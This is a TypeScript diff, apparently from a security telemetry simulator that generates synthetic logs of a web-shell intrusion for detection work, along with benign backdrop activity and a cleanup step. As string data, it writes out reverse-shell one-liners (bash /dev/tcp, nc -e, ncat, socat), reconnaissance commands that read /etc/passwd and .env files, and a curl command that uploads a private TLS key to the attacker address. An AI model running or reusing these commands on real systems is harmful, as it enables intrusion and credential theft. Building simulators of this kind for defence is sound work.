@@ -5,14 +5,16 @@ import { daemon, run } from "../events/process-event.ts";
 import type { Process } from "../events/audit-event.ts";
 import { listedConnection } from "../events/threat-intel-event.ts";
 import type { Host } from "../hosts.ts";
+import { inventedWord, strangePort } from "../props.ts";
 import { PARTNERS } from "../routine/application-traffic.ts";
 import { strangerAddress } from "../routine/internet-noise.ts";
-import { atHost, wait } from "../scene.ts";
+import { atHost, cause, wait } from "../scene.ts";
 import type { Scene, Script, Stage } from "../scene.ts";
 import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
 import { serviceAccount } from "../unix-account.ts";
-import { backdrop, momentOf, phase } from "./story.ts";
-import type { Story, StoryOptions } from "./story.ts";
+import { cleanHost } from "./response.ts";
+import { castHost, factsOf, momentOf, tell } from "./story.ts";
+import type { Backdrop, Story, StoryOptions } from "./story.ts";
 
 interface Cast {
   readonly host: Host;
@@ -23,69 +25,99 @@ interface Cast {
   readonly line: string;
   readonly program: string;
   readonly secret: string;
+  /** Number of the shell's process, which another one had hours before. */
+  readonly pid: number;
 }
 
 const WWW = serviceAccount("www-data");
+const FOLDERS = ["uploads", "media", "wp-content/uploads", "files/tmp", "images/cache", "avatars"];
+const SECRETS = ["site.key", "wildcard.key", "www.key", "partner-api.pem", "jwt-signing.key"];
 
 /** A program uploaded through a web form runs commands, then calls home. */
-export function webShell({ world, random, start }: StoryOptions): Story {
-  const id = "web-shell";
+export function webShell(options: StoryOptions): Story {
+  const { world, random, start } = options;
   const ip = strangerAddress(random);
-  const port = random.pick([4444, 9001, 8443, 53]);
+  const port = strangePort(random);
   const [program, line] = random.pick([
     ["bash", `bash -i >& /dev/tcp/${ip}/${port} 0>&1`],
     ["nc", `nc -e /bin/sh ${ip} ${port}`],
+    ["ncat", `ncat ${ip} ${port} -e /bin/bash`],
     ["socat", `socat exec:sh,pty,stderr tcp:${ip}:${port}`],
   ] as const);
   const cast: Cast = {
-    host: random.pick(world.hostsOf("web")),
+    host: castHost(options, world.hostsOf("web")),
     ip,
     port,
     program,
     line,
-    shellFile: `/var/www/html/uploads/${random.pick(["avatar", "cv_final", "thumb", "invoice"])}${random.int(2, 99)}.php`,
-    secret: random.pick(["/etc/ssl/private/site.key", "/etc/ssl/private/wildcard.key"]),
+    shellFile: `/var/www/html/${random.pick(FOLDERS)}/${inventedWord(random)}${random.int(2, 99)}.php`,
+    secret: `/etc/ssl/private/${random.pick(SECRETS)}`,
+    pid: random.int(4000, 30_000),
   };
   const reverseAt = start + random.int(12, 30) * MINUTE_MS;
-  return {
-    outcome: {
-      id,
-      verdict: "attack",
-      summary: `A web shell ${cast.shellFile} on ${cast.host.name} opened a reverse shell to ${ip}`,
-      facts: [
-        { kind: "object", text: cast.shellFile },
-        { kind: "address", text: ip },
-        { kind: "user", text: WWW.user },
-        { kind: "host", text: cast.host.name },
-        { kind: "tool", text: `/usr/bin/${program}` },
-        { kind: "object", text: cast.secret },
-        { kind: "time", text: momentOf(reverseAt) },
-      ],
-    },
-    activities: [
-      backdrop(id, { name: "thumbnails", start: start - 90 * MINUTE_MS }, (stage) =>
-        makeThumbnails(stage, cast),
-      ),
-      backdrop(id, { name: "partners", start: start - 2 * HOUR_MS }, (stage) =>
-        askPartners(stage, cast),
-      ),
-      phase(id, { name: "upload", start }, (stage) => upload(stage, cast)),
-      phase(id, { name: "call-home", start: reverseAt }, (stage) => callHome(stage, cast)),
+  const { host, shellFile, secret } = cast;
+  return tell(options, {
+    id: "web-shell",
+    kind: "attack",
+    platforms: ["linux"],
+    rootCause: `the web server of ${host.name} wrote ${shellFile}`,
+    backdrops: backdropsOf(cast, start),
+    chapters: [
+      {
+        name: "upload",
+        start,
+        deed: `${shellFile} was uploaded to ${host.name} and ran commands`,
+        facts: factsOf(
+          ["object", shellFile],
+          ["user", WWW.user],
+          ["host", host.name],
+          ["command", "sh -c uname -a"],
+          ["time", momentOf(start)],
+        ),
+        perform: (stage) => upload(stage, cast),
+      },
+      {
+        name: "call-home",
+        start: reverseAt,
+        deed: `it opened a shell to ${ip} and sent ${secret}`,
+        facts: factsOf(
+          ["address", ip],
+          ["tool", `/usr/bin/${program}`],
+          ["command", line],
+          ["object", secret],
+          ["time", momentOf(reverseAt)],
+        ),
+        perform: (stage) => callHome(stage, cast),
+      },
     ],
-  };
+    response: cleanHost({ host, lines: [`rm -f ${shellFile}`, "systemctl restart php8.1-fpm"] }),
+  });
 }
 
 function fpm(scene: Scene): Process {
   return daemon(scene, "/usr/sbin/php-fpm8.1");
 }
 
-// What the site always does: it looks like the attack and is suppressed.
-function* makeThumbnails(stage: Stage, { host }: Cast): Script {
+function backdropsOf(cast: Cast, start: number): Backdrop[] {
+  return [
+    {
+      name: "thumbnails",
+      start: start - 90 * MINUTE_MS,
+      perform: (stage) => makeThumbnails(stage, cast),
+    },
+    { name: "partners", start: start - 2 * HOUR_MS, perform: (stage) => askPartners(stage, cast) },
+  ];
+}
+
+// What the site always does: it looks like the attack and is suppressed. The first has the number of a later one.
+function* makeThumbnails(stage: Stage, { host, pid }: Cast): Script {
   const scene = atHost(stage, host);
+  const argv = ["sh", "-c", "/usr/local/bin/rotate-thumbnails"];
+  const spec = { as: WWW, exe: "/bin/sh", argv, parent: fpm(scene), cwd: "/var/www/html" };
+  yield* run(scene, { ...spec, pid });
   for (let index = 0; index < 30; index += 1) {
-    const argv = ["sh", "-c", "/usr/local/bin/rotate-thumbnails"];
-    yield* run(scene, { as: WWW, exe: "/bin/sh", argv, parent: fpm(scene), cwd: "/var/www/html" });
     wait(stage, 2 * MINUTE_MS, 6 * MINUTE_MS);
+    yield* run(scene, spec);
   }
 }
 
@@ -103,78 +135,65 @@ function fpmSocket(scene: Scene): Omit<SocketSpec, "remote"> {
   return { as: WWW, process: fpm(scene), argv: ["php-fpm: pool www"], parent };
 }
 
+const LOOKS = [
+  "uname -a",
+  "id",
+  "cat /etc/passwd",
+  "ls -la /var/www/html",
+  "ip addr",
+  "find / -perm -4000",
+  "cat /var/www/html/.env",
+  "netstat -antp",
+  "ps aux",
+  "df -h",
+];
+
 function* upload(stage: Stage, cast: Cast): Script {
   const scene = atHost(stage, cast.host);
-  const argv = ["php-fpm: pool www"];
-  for (const action of ["create", "modify"] as const) {
-    yield touch(scene, { as: WWW, process: fpm(scene), argv, filename: cast.shellFile, action });
-    wait(stage, 5, 40);
-  }
+  const spec = { as: WWW, process: fpm(scene), argv: ["php-fpm: pool www"] };
+  const filename = cast.shellFile;
+  yield cause(stage, touch(scene, { ...spec, filename, action: "create" }));
+  wait(stage, 5, 40);
+  yield touch(scene, { ...spec, filename, action: "modify" });
   yield connect(scene, { ...fpmSocket(scene), remote: { ip: cast.ip, port: 80 } });
-  for (const line of [
-    "id",
-    "uname -a",
-    "cat /etc/passwd",
-    "ls -la /var/www/html",
-    "ip addr",
-    "find / -perm -4000",
-  ]) {
+  for (const line of ["uname -a", ...stage.random.sample(LOOKS.slice(1), 5)]) {
     wait(stage, 8000, 70_000);
-    yield* viaShell(scene, line);
+    yield* viaShell(scene, { line });
   }
 }
 
 // Each request to the web shell is a shell of its own that starts the program asked for.
-function* viaShell(scene: Scene, line: string): Script<Process> {
-  const cwd = "/var/www/html/uploads";
-  const argv = ["sh", "-c", line];
-  const shell = yield* run(scene, { as: WWW, exe: "/bin/sh", argv, parent: fpm(scene), cwd });
-  wait(scene, 2, 20);
-  const words = line.split(" ");
-  return yield* run(scene, {
-    as: WWW,
-    exe: `/usr/bin/${words[0]}`,
-    argv: words,
-    parent: shell,
-    cwd,
+function* viaShell(scene: Scene, { line, pid }: { line: string; pid?: number }): Script<Process> {
+  const base = { as: WWW, cwd: "/var/www/html/uploads" };
+  const shell = yield* run(scene, {
+    ...base,
+    exe: "/bin/sh",
+    argv: ["sh", "-c", line],
+    parent: fpm(scene),
+    ...(pid !== undefined && { pid }),
   });
+  wait(scene, 2, 20);
+  const argv = line.split(" ");
+  return yield* run(scene, { ...base, exe: `/usr/bin/${argv[0]}`, argv, parent: shell });
 }
 
 function* callHome(stage: Stage, cast: Cast): Script {
-  const { ip, port, line } = cast;
+  const { ip, port, line, secret, pid } = cast;
   const scene = atHost(stage, cast.host);
-  const process = yield* viaShell(scene, line);
+  const process = yield* viaShell(scene, { line, pid });
   const spec = { as: WWW, process, argv: line.split(" "), parent: fpm(scene) };
   yield connect(scene, { ...spec, remote: { ip, port } });
-  yield listedConnection(scene, {
-    as: WWW,
-    process,
-    ip,
-    port,
-    direction: "outbound",
-    list: { source: "emerging-example", reason: "command and control", type: "c2" },
-  });
-  for (const words of [
+  const list = { source: "emerging-example", reason: "command and control", type: "c2" };
+  yield listedConnection(scene, { as: WWW, process, ip, port, direction: "outbound", list });
+  for (const argv of [
     ["whoami"],
-    ["cat", cast.secret],
-    ["curl", "-F", `f=@${cast.secret}`, `http://${ip}/in`],
+    ["cat", secret],
+    ["curl", "-F", `f=@${secret}`, `http://${ip}/in`],
   ]) {
     wait(stage, 10_000, 80_000);
-    const child = yield* run(scene, {
-      as: WWW,
-      exe: `/usr/bin/${words[0]}`,
-      argv: words,
-      parent: process,
-      cwd: "/var/www/html/uploads",
-    });
-    if (words[0] === "cat") {
-      yield touch(scene, {
-        as: WWW,
-        process: child,
-        argv: words,
-        filename: cast.secret,
-        action: "open",
-      });
-    }
+    const exe = `/usr/bin/${argv[0]}`;
+    const child = yield* run(scene, { as: WWW, exe, argv, parent: process, cwd: "/var/www/html" });
+    if (argv[0] !== "cat") continue;
+    yield touch(scene, { as: WWW, process: child, argv, filename: secret, action: "open" });
   }
 }
